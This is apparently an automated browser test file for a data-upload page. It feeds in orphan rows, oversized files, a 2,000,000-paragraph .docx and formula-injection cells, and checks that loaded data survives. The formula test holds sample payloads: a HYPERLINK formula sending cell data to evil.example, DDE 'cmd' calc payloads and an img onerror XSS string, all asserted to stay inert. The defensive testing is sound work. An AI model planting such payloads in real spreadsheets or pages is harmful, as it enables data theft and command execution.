/**
 * Hostile uploads on /data (issue 12), in one browser profile so the data loaded first is there all along:
 * child rows of no report, formula cells, files over the size and row limits, a .docx of 2,000,000
 * paragraphs. After every bad file the data loaded before is unchanged, also after a reload.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { BASE, SHOTS } from './helpers.mjs';
import { FINDINGS, NEW_ID, csv, session } from './hostile-uploads.mjs';

const s = session();

test('setup: a report loaded from /data is the data every hostile file must leave intact', async () => {
	await s.setup();
	assert.match(await s.page.getByTestId('upload-limits').textContent(), /at most 64 MB \(16 MB for \.txt \/ \.md\), tables at most 500,000 rows/);
});

test('child rows whose report exists nowhere are named by file, row and report_id; a report in a file added with them counts', async () => {
	const shipped = (await (await fetch(`${BASE}/data/reports.csv`)).text())
		.split(/\r?\n/)[1]
		.split(',')[0]
		.replace(/^\uFEFF/, '');
	assert.ok(shipped, 'a shipped report_id');
	// Rows 3 and 5 name reports that do not exist; rows 2 and 4 belong to a shipped report.
	const orphans = {
		name: 'findings-orphans.csv',
		text: csv(FINDINGS, [`${shipped},9001,问题,台账不全,其他`, `no-such-report,1,问题,x,其他`, `${shipped},9002,建议,补全台账,其他`, `ghost-2,1,问题,y,其他`])
	};
	await s.drop([orphans]);
	const text = await s.phase(orphans.name);
	assert.match(text, /2 of 4 rows have problems/);
	const problems = await s
		.item(orphans.name)
		.locator('table.problems tbody tr')
		.evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].slice(0, 3).map((td) => td.textContent)));
	assert.deepEqual(problems, [
		['3', 'report_id', 'no-such-report'],
		['5', 'report_id', 'ghost-2']
	]);
	assert.match(text, /no report with this report_id: it is neither in the loaded data nor in the files being added/);
	assert.equal(await s.item(orphans.name).getByRole('button', { name: 'Skip 2 bad rows, load the other 2' }).count(), 1);
	await s.item(orphans.name).getByRole('button', { name: 'Cancel' }).click();
	await s.intact('an orphan-row file');

	// Rows of a report that only a file added with them holds: orphans until that file is checked, then ready;
	// "load every ready file" loads the report first.
	const children = { name: 'findings-for-new.csv', text: csv(FINDINGS, [`${NEW_ID},1,问题,台账不全,其他`, `${NEW_ID},2,建议,补全台账,其他`]) };
	await s.drop([children]);
	assert.match(await s.phase(children.name), /2 of 2 rows have problems/);
	const reports = {
		name: 'reports-new.csv',
		text: csv('report_id,title,year,district,budget_wan,actual_wan,score,grade,synthetic', [`${NEW_ID},敌意测试报告,2024,海珠区,10,9,80,良,false`])
	};
	await s.drop([reports]);
	await s.phase(reports.name);
	await s.page.waitForFunction((n) => /Ready: 2 rows → findings/.test(document.querySelector(`li.item[data-file="${n}"]`)?.textContent ?? ''), children.name, {
		timeout: 10000
	});
	await s.page.getByRole('button', { name: 'Load every ready file' }).click();
	await s.phase(reports.name, ['loaded']);
	await s.phase(children.name, ['loaded']);
	const now = await s.userData();
	assert.match(now, /reports: 2 rows/);
	assert.match(now, /findings-for-new\.csv → findings \(2\)/);
	s.before = now;
});

test('a formula-cell CSV loads as text: nothing is evaluated or rendered as markup, and the console exports it neutralised', async () => {
	const cells = [
		'=HYPERLINK("http://evil.example/?x="&A1,"click")',
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		'+1',
		'<img src=x onerror="window.__xss=1">'
	];
	const quote = (s) => `"${s.replaceAll('"', '""')}"`;
	const rows = cells.map((c, i) => `${NEW_ID},${10 + i},问题,${quote(c)},其他`);
	rows.push(`${NEW_ID},=1+1,问题,${quote('=cmd')},其他`);
	const f = { name: 'findings-formulas.csv', text: csv(FINDINGS, rows) };
	await s.drop([f]);
	const text = await s.phase(f.name);
	assert.match(text, /1 of 6 rows have problems/);
	assert.match(text, /4 text cells start with = \+ - @ \(like spreadsheet formulas\): kept as text, never evaluated/);
	assert.equal(await s.item(f.name).locator('table.problems td.value').first().textContent(), '=1+1');
	await s.item(f.name).getByRole('button', { name: 'Skip 1 bad rows, load the other 5' }).click();
	await s.phase(f.name, ['loaded']);
	assert.match(await s.userData(), /findings-formulas\.csv → findings \(5\)/);
	s.before = await s.userData();

	await s.page.goto(`${BASE}/en/sql?${new URLSearchParams({ q: `SELECT text FROM findings WHERE report_id = '${NEW_ID}' AND seq >= 10 ORDER BY seq` })}`);
	await s.page.waitForFunction(() => performance.getEntriesByName('sql-ready').length > 0, null, { timeout: 60000 });
	await s.page.getByRole('button', { name: /Run/ }).click();
	await s.page.waitForFunction(() => performance.getEntriesByName('sql-result').length > 0, null, { timeout: 30000 });
	const shown = await s.page.locator('.rgrid .body [role=row]').evaluateAll((rows) => rows.map((r) => r.querySelectorAll('[role=gridcell]')[1].textContent));
	assert.deepEqual(shown, cells);
	assert.equal(await s.page.evaluate(() => window.__xss), undefined);
	const [download] = await Promise.all([s.page.waitForEvent('download'), s.page.getByRole('button', { name: 'CSV' }).click()]);
	const file = join(s.tmp, download.suggestedFilename());
	await download.saveAs(file);
	const exported = readFileSync(file, 'utf8');
	assert.ok(exported.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`), exported);
	// every formula-looking cell apostrophe-prefixed (PapaParse escapeFormulae also quotes it: "'+1")
	assert.ok(exported.includes("'@SUM(1+1)") && exported.includes("'-2+3+cmd") && exported.includes('\r\n"\'+1"\r\n'), exported);
	await s.reloadData();
	await s.intact('formula cells');
});

test('files over the limits are refused before they are read; a .docx bomb is named; the tab survives', async () => {
	// 80 MB of CSV (over the 64 MB limit): refused from its size alone, at once.
	const huge = s.bigFindings('huge-findings.csv', 80, NEW_ID);
	let t0 = Date.now();
	await s.drop([huge.path]);
	let text = await s.phase('huge-findings.csv', ['checked'], 30000);
	const checkMs = Date.now() - t0;
	assert.match(text, /file too large \(80(\.\d)? MB > 64 MB, the limit for one file in the browser\): not read/);
	assert.match(text, /Cannot be loaded/);
	console.log(`80 MB CSV refused ${checkMs} ms after it was picked (transfer to the remote browser included)`);
	await s.intact('an 80 MB CSV');

	// 500,001 short rows in 11 MB: under the byte limit, over the row limit.
	const path = join(s.tmp, 'too-many-rows.csv');
	writeFileSync(path, 'report_id,seq,item,amount_yuan\n' + Array.from({ length: 500_001 }, (_, i) => `${NEW_ID},${i + 1},办公用品,1`).join('\n') + '\n');
	t0 = Date.now();
	await s.drop([path]);
	text = await s.phase('too-many-rows.csv', ['checked'], 60000);
	assert.match(text, /too many rows \(more than 500,000, the limit for one file in the browser\)/);
	console.log(`500,001-row CSV refused in ${Date.now() - t0} ms`);
	await s.intact('a CSV of 500,001 rows');

	// The .docx of 2,000,000 tiny paragraphs (~200 KB) that once crashed the tab after a large CSV was loaded.
	const docx = join(s.tmp, 'paragraphs.docx');
	const gen = spawnSync(
		process.execPath,
		[
			'--import',
			'tsx',
			'--input-type=module',
			'-e',
			`import { docxRepeated } from './test/hostile/generate.ts'; import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(docx)}, docxRepeated('<w:p><w:r><w:t>x</w:t></w:r></w:p>', 2_000_000));`
		],
		{ encoding: 'utf8' }
	);
	assert.equal(gen.status, 0, gen.stderr);
	t0 = Date.now();
	await s.drop([docx]);
	text = await s.phase('paragraphs.docx', ['checked', 'failed'], 60000);
	assert.match(text, /too many paragraphs/);
	console.log(`2,000,000-paragraph .docx refused in ${Date.now() - t0} ms`);
	await s.intact('a .docx of 2,000,000 paragraphs');
	await s.page.screenshot({ path: `${SHOTS}/hostile-limits.png`, fullPage: true });
	await s.reloadData();
	await s.intact('a reload after the refused files');
});

test('forgetting removes what was added; nothing failed on the page along the way', async () => {
	await s.page.getByRole('button', { name: 'Forget my data' }).click();
	await s.page.getByTestId('userdata-none').waitFor({ timeout: 60000 });
	assert.deepEqual(s.errors, []);
});
